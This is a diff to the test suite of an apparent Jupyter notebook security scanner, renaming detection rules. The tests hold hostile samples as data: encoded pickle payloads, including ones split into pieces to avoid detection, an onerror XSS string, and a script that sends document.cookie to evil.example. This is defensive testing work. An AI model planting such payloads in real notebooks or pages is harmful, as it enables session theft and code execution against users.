@@ -60,15 +60,15 @@ def test_a_bomb_is_not_unpacked() -> None:
 
 def test_where_a_plain_pickle_stands_counts() -> None:
     plain = encoded(pickle.dumps(OrderedDict(first=list(range(20)), second="x" * 30)))
-    assert severity(notebook(code(f"x = '{plain}'")), "embedded-payload") == "medium"
-    assert severity(notebook(code(outputs=[output(plain)])), "embedded-payload") == ""
-    assert severity(notebook(code(outputs=[output(encoded(PICKLES[2]))])), "embedded-payload") == "high"
+    assert severity(notebook(code(f"x = '{plain}'")), "embedded-binary-payload") == "medium"
+    assert severity(notebook(code(outputs=[output(plain)])), "embedded-binary-payload") == ""
+    assert severity(notebook(code(outputs=[output(encoded(PICKLES[2]))])), "embedded-binary-payload") == "high"
 
 
 def test_pieces_are_put_together() -> None:
     text = encoded(PICKLES[2])
     pieces = "'" + "' + '".join(text[k : k + 24] for k in range(0, len(text), 24)) + "'"
-    assert severity(notebook(code(f"x = ({pieces})")), "embedded-payload") == "high"
+    assert severity(notebook(code(f"x = ({pieces})")), "embedded-binary-payload") == "high"
 
 
 def test_what_notebooks_hold_anyway() -> None:
@@ -80,7 +80,7 @@ def test_what_notebooks_hold_anyway() -> None:
         raw = notebook(
             code(f"x = '{text}'", [output(text), output(text, "text/plain")], x=text), markdown(f"x {text}"), y=text
         )
-        assert severity(raw, "embedded-payload") == ""
+        assert severity(raw, "embedded-binary-payload") == ""
 
 
 def test_an_output_picture_that_is_none() -> None:
@@ -98,18 +98,20 @@ def test_widgets() -> None:
         held = {"state": {"a": {"model_name": "HTMLModel", "state": {"value": value, "layout": "IPY_MODEL_b"}}}}
         return notebook(code(), widgets={"application/vnd.jupyter.widget-state+json": held})
 
-    assert severity(state("100%|####| 3/3 [00:01<00:00]"), "widget-state") == ""
+    assert severity(state("100%|####| 3/3 [00:01<00:00]"), "widget-state-payload") == ""
     assert (
         severity(
-            state("<center><img src=https://example.com/a.svg alt='x'><br>Log in<b>!</b></center>"), "widget-state"
+            state("<center><img src=https://example.com/a.svg alt='x'><br>Log in<b>!</b></center>"),
+            "widget-state-payload",
         )
         == ""
     )
-    assert severity(state("<img src=x onerror=alert(1)>"), "widget-state") == "medium"
+    assert severity(state("<img src=x onerror=alert(1)>"), "widget-state-payload") == "medium"
     assert (
-        severity(state("<script>fetch('https://evil.example/?' + document.cookie)</script>"), "widget-state") == "high"
+        severity(state("<script>fetch('https://evil.example/?' + document.cookie)</script>"), "widget-state-payload")
+        == "high"
     )
-    assert severity(state("x" * 1_100_000), "widget-state") == "low"
+    assert severity(state("x" * 1_100_000), "widget-state-payload") == "low"
 
 
 def test_old_formats_have_other_names() -> None:
@@ -133,6 +135,6 @@ def test_old_formats_have_other_names() -> None:
     }
     found = {f.rule: f.location.pointer for f in scan(json.dumps(tree).encode()).findings}
     assert found == {
-        "active-content": "/worksheets/0/cells/0/outputs/0/html",
+        "active-content-in-output": "/worksheets/0/cells/0/outputs/0/html",
         "trust-mark-in-file": "/metadata/signature",
     }
